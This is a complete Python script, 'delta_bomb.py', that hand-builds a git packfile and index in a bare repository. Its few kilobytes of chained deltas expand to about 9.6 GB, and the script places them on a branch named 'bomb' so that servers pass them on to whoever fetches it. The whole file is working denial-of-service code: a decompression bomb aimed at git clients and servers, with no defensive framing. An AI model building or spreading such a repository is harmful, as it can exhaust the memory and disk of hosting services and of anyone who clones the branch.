#!/usr/bin/env python3
"""delta_bomb.py REPOSITORY: a pack of some kilobytes in a bare repository whose last delta stands for 9.6 GB, and a branch that
needs it.  Written from git's pack format (gitformat-pack(5)); nothing here inflates it."""
import hashlib, os, struct, subprocess, sys, zlib

PIECE, FIRST, SECOND = 1_000_000, 16, 600


def size_bytes(n):
    out = bytearray()
    while True:
        out.append((n & 0x7F) | (0x80 if n > 0x7F else 0))
        n >>= 7
        if n == 0:
            return bytes(out)


def head(kind, n):
    first = (kind << 4) | (n & 15)
    n >>= 4
    return bytes([first | (0x80 if n else 0)]) + (size_bytes(n) if n else b"")


def back(distance):
    out = [distance & 0x7F]
    distance >>= 7
    while distance:
        distance -= 1
        out.insert(0, 0x80 | (distance & 0x7F))
        distance >>= 7
    return bytes(out)


def copies(of, times):
    """A delta that repeats all of its base."""
    one = bytes([0x80 | 0x70]) + struct.pack("<I", of)[:3]
    return size_bytes(of) + size_bytes(of * times) + one * times


def blob_id(piece, times):
    digest = hashlib.sha1(b"blob %d\0" % (len(piece) * times))
    for _ in range(times):
        digest.update(piece)
    return digest.digest()


def write_pack(folder):
    base = bytes(PIECE)
    first, second = copies(PIECE, FIRST), copies(PIECE * FIRST, SECOND)
    pack, entries, at = bytearray(b"PACK" + struct.pack(">II", 2, 3)), [], []
    bodies = [(head(3, PIECE), base), (head(6, len(first)), first), (head(6, len(second)), second)]
    wide = bytes(PIECE * FIRST)
    ids = [blob_id(base, 1), blob_id(base, FIRST), blob_id(wide, SECOND)]
    for i, (header, body) in enumerate(bodies):
        at.append(len(pack))
        record = header + (back(at[i] - at[i - 1]) if i else b"") + zlib.compress(body, 9)
        entries.append((ids[i], zlib.crc32(record), at[i]))
        pack += record
    pack += hashlib.sha1(pack).digest()
    entries.sort()
    index = bytearray(b"\xfftOc" + struct.pack(">I", 2))
    for byte in range(256):
        index += struct.pack(">I", sum(1 for e in entries if e[0][0] <= byte))
    index += b"".join(e[0] for e in entries)
    index += b"".join(struct.pack(">I", e[1]) for e in entries)
    index += b"".join(struct.pack(">I", e[2]) for e in entries)
    index += pack[-20:]
    index += hashlib.sha1(index).digest()
    name = os.path.join(folder, "objects/pack/pack-" + pack[-20:].hex())
    for suffix, data in ((".pack", pack), (".idx", index)):
        with open(name + suffix, "wb") as out:
            out.write(data)
    return [oid.hex() for oid in ids]


def git(folder, *words, text=""):
    command = ["git", "-c", "user.name=t", "-c", "user.email=t@localhost", "--git-dir", folder, *words]
    return subprocess.run(command, input=text.encode(), check=True, capture_output=True).stdout.decode().strip()


def main(folder):
    # All three are needed, so that whoever serves it may send the deltas as they are.
    names = zip(write_pack(folder), ("base", "first", "second"))
    tree = git(folder, "mktree", "--missing", text="".join("100644 blob %s\t%s\n" % pair for pair in names))
    git(folder, "update-ref", "refs/heads/bomb", git(folder, "commit-tree", "-m", "bomb", tree))


main(sys.argv[1])
